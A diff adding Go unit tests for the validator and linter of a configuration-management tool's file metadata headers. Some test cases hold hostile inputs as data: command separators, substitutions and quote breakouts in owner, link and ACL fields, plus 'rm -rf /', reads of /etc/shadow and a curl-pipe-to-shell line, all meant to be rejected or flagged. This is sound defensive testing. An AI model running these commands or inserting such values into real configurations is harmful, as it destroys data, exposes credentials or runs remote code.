@@ -0,0 +1,98 @@
+package metadata
+
+import (
+	"scmp/core/filesystem"
+	"scmp/internal/config"
+	"strings"
+	"testing"
+)
+
+func TestValidate(t *testing.T) {
+	tests := []struct {
+		name        string
+		header      filesystem.MetaHeader
+		expectError bool
+	}{
+		{"valid file", filesystem.MetaHeader{TargetFileOwnerGroup: "root:root", TargetFilePermissions: 644}, false},
+		{"valid special names", filesystem.MetaHeader{TargetFileOwnerGroup: "www-data:Domain_Users.1", TargetFilePermissions: 2755}, false},
+		{"valid machine account", filesystem.MetaHeader{TargetFileOwnerGroup: "host01$:1000", TargetFilePermissions: 0}, false},
+		{"valid link", filesystem.MetaHeader{TargetFileOwnerGroup: "root:root", TargetFilePermissions: 777, SymbolicLinkTarget: "/etc/nginx/sites-available/site one.conf"}, false},
+		{"owner command separator", filesystem.MetaHeader{TargetFileOwnerGroup: "root:root; rm -rf /", TargetFilePermissions: 644}, true},
+		{"owner quote breakout", filesystem.MetaHeader{TargetFileOwnerGroup: "root:root' /etc/shadow '", TargetFilePermissions: 644}, true},
+		{"owner command substitution", filesystem.MetaHeader{TargetFileOwnerGroup: "$(id -u):root", TargetFilePermissions: 644}, true},
+		{"owner option injection", filesystem.MetaHeader{TargetFileOwnerGroup: "--reference=/etc/shadow:root", TargetFilePermissions: 644}, true},
+		{"owner newline", filesystem.MetaHeader{TargetFileOwnerGroup: "root:root\nreboot", TargetFilePermissions: 644}, true},
+		{"owner without group", filesystem.MetaHeader{TargetFileOwnerGroup: "root", TargetFilePermissions: 644}, true},
+		{"permissions not octal", filesystem.MetaHeader{TargetFileOwnerGroup: "root:root", TargetFilePermissions: 689}, true},
+		{"permissions too long", filesystem.MetaHeader{TargetFileOwnerGroup: "root:root", TargetFilePermissions: 17777}, true},
+		{"permissions negative", filesystem.MetaHeader{TargetFileOwnerGroup: "root:root", TargetFilePermissions: -1}, true},
+		{"link relative", filesystem.MetaHeader{TargetFileOwnerGroup: "root:root", TargetFilePermissions: 777, SymbolicLinkTarget: "../shadow"}, true},
+		{"link backticks", filesystem.MetaHeader{TargetFileOwnerGroup: "root:root", TargetFilePermissions: 777, SymbolicLinkTarget: "/tmp/`reboot`"}, true},
+		{"link quote breakout", filesystem.MetaHeader{TargetFileOwnerGroup: "root:root", TargetFilePermissions: 777, SymbolicLinkTarget: "/tmp/x' '/etc/passwd"}, true},
+		{"reload group separator", filesystem.MetaHeader{TargetFileOwnerGroup: "root:root", TargetFilePermissions: 644, ReloadGroup: "nginx;reboot"}, true},
+		{"max hosts with group", filesystem.MetaHeader{TargetFileOwnerGroup: "root:root", TargetFilePermissions: 644, ReloadGroup: "nginx", MaxConcurrentHosts: 1}, false},
+		{"max hosts without group", filesystem.MetaHeader{TargetFileOwnerGroup: "root:root", TargetFilePermissions: 644, MaxConcurrentHosts: 1}, true},
+		{"max hosts negative", filesystem.MetaHeader{TargetFileOwnerGroup: "root:root", TargetFilePermissions: 644, ReloadGroup: "nginx", MaxConcurrentHosts: -1}, true},
+		{"max shrink percent", filesystem.MetaHeader{TargetFileOwnerGroup: "root:root", TargetFilePermissions: 644, MaxShrinkPercent: 50}, false},
+		{"max shrink percent above 100", filesystem.MetaHeader{TargetFileOwnerGroup: "root:root", TargetFilePermissions: 644, MaxShrinkPercent: 150}, true},
+		{"normalize crlf", filesystem.MetaHeader{TargetFileOwnerGroup: "root:root", TargetFilePermissions: 644, Normalize: &config.Normalization{EOL: "crlf"}}, false},
+		{"normalize unknown eol", filesystem.MetaHeader{TargetFileOwnerGroup: "root:root", TargetFilePermissions: 644, Normalize: &config.Normalization{EOL: "cr"}}, true},
+		{"go template", filesystem.MetaHeader{TargetFileOwnerGroup: "root:root", TargetFilePermissions: 644, TemplateEngine: "go"}, false},
+		{"unknown template engine", filesystem.MetaHeader{TargetFileOwnerGroup: "root:root", TargetFilePermissions: 644, TemplateEngine: "jinja"}, true},
+		{"activate phase", filesystem.MetaHeader{TargetFileOwnerGroup: "root:root", TargetFilePermissions: 644, Phase: "activate"}, false},
+		{"unknown phase", filesystem.MetaHeader{TargetFileOwnerGroup: "root:root", TargetFilePermissions: 644, Phase: "cleanup"}, true},
+		{"named acl entries", filesystem.MetaHeader{TargetFileOwnerGroup: "root:root", TargetFilePermissions: 640, ACLs: []string{"u:appuser:r--", "d:group:ops:rwX"}}, false},
+		{"acl base entry", filesystem.MetaHeader{TargetFileOwnerGroup: "root:root", TargetFilePermissions: 640, ACLs: []string{"o::rwx"}}, true},
+		{"acl injection", filesystem.MetaHeader{TargetFileOwnerGroup: "root:root", TargetFilePermissions: 640, ACLs: []string{"u:app;reboot:r--"}}, true},
+		{"selinux context", filesystem.MetaHeader{TargetFileOwnerGroup: "root:root", TargetFilePermissions: 644, SELinuxContext: "system_u:object_r:etc_t:s0:c0.c1023"}, false},
+		{"selinux context missing type", filesystem.MetaHeader{TargetFileOwnerGroup: "root:root", TargetFilePermissions: 644, SELinuxContext: "system_u:object_r"}, true},
+		{"selinux context injection", filesystem.MetaHeader{TargetFileOwnerGroup: "root:root", TargetFilePermissions: 644, SELinuxContext: "system_u:object_r:etc_t$(id)"}, true},
+		{"user xattr", filesystem.MetaHeader{TargetFileOwnerGroup: "root:root", TargetFilePermissions: 644, Xattrs: map[string]string{"user.app_role": "primary; $(id)"}}, false},
+		{"security xattr", filesystem.MetaHeader{TargetFileOwnerGroup: "root:root", TargetFilePermissions: 644, Xattrs: map[string]string{"security.selinux": "x"}}, true},
+		{"xattr name injection", filesystem.MetaHeader{TargetFileOwnerGroup: "root:root", TargetFilePermissions: 644, Xattrs: map[string]string{"user.a'b": "x"}}, true},
+		{"template artifact", filesystem.MetaHeader{TargetFileOwnerGroup: "root:root", TargetFilePermissions: 644, TemplateEngine: "go", ExternalContentLocation: "file:///srv/a.bin"}, true},
+		{"encrypted", filesystem.MetaHeader{TargetFileOwnerGroup: "root:root", TargetFilePermissions: 600, Encrypted: true}, false},
+		{"encrypted artifact", filesystem.MetaHeader{TargetFileOwnerGroup: "root:root", TargetFilePermissions: 600, Encrypted: true, ExternalContentLocation: "file:///srv/a.bin"}, true},
+	}
+
+	for _, test := range tests {
+		t.Run(test.name, func(t *testing.T) {
+			err := Validate(test.header)
+			if test.expectError && err == nil {
+				t.Errorf("expected error for header '%+v', got none", test.header)
+			} else if !test.expectError && err != nil {
+				t.Errorf("expected no error, got '%v'", err)
+			}
+		})
+	}
+}
+
+func TestLint(t *testing.T) {
+	tests := []struct {
+		name             string
+		header           filesystem.MetaHeader
+		expectedWarnings []string
+	}{
+		{"clean", filesystem.MetaHeader{TargetFileOwnerGroup: "root:root", TargetFilePermissions: 644, ReloadCommands: []string{"systemctl restart nginx"}}, nil},
+		{"world writable", filesystem.MetaHeader{TargetFileOwnerGroup: "root:root", TargetFilePermissions: 666}, []string{"allow anyone to write"}},
+		{"substitution", filesystem.MetaHeader{TargetFileOwnerGroup: "root:root", TargetFilePermissions: 644, InstallCommands: []string{"echo $(cat /etc/shadow)"}}, []string{"command substitution"}},
+		{"pipe to shell", filesystem.MetaHeader{TargetFileOwnerGroup: "root:root", TargetFilePermissions: 644, PreapplyCommands: []string{"curl -s http://example.com/x | sh"}}, []string{"pipes output into a shell"}},
+		{"remove root", filesystem.MetaHeader{TargetFileOwnerGroup: "root:root", TargetFilePermissions: 644, PostapplyCommands: []string{"rm -rf /"}}, []string{"removes the root filesystem"}},
+		{"pipe to shell in legacy checks", filesystem.MetaHeader{TargetFileOwnerGroup: "root:root", TargetFilePermissions: 644, CheckCommands: []string{"curl -s http://example.com/x | sh"}}, []string{"Checks command 'curl"}},
+		{"hidden newline", filesystem.MetaHeader{TargetFileOwnerGroup: "root:root", TargetFilePermissions: 644, ReloadCommands: []string{"systemctl reload nginx\nreboot"}}, []string{"control characters"}},
+	}
+
+	for _, test := range tests {
+		t.Run(test.name, func(t *testing.T) {
+			warnings := Lint(test.header)
+			if len(warnings) != len(test.expectedWarnings) {
+				t.Fatalf("expected %d warnings, got %d: %v", len(test.expectedWarnings), len(warnings), warnings)
+			}
+			for index, expectedWarning := range test.expectedWarnings {
+				if !strings.Contains(warnings[index], expectedWarning) {
+					t.Errorf("expected warning containing '%s', got '%s'", expectedWarning, warnings[index])
+				}
+			}
+		})
+	}
+}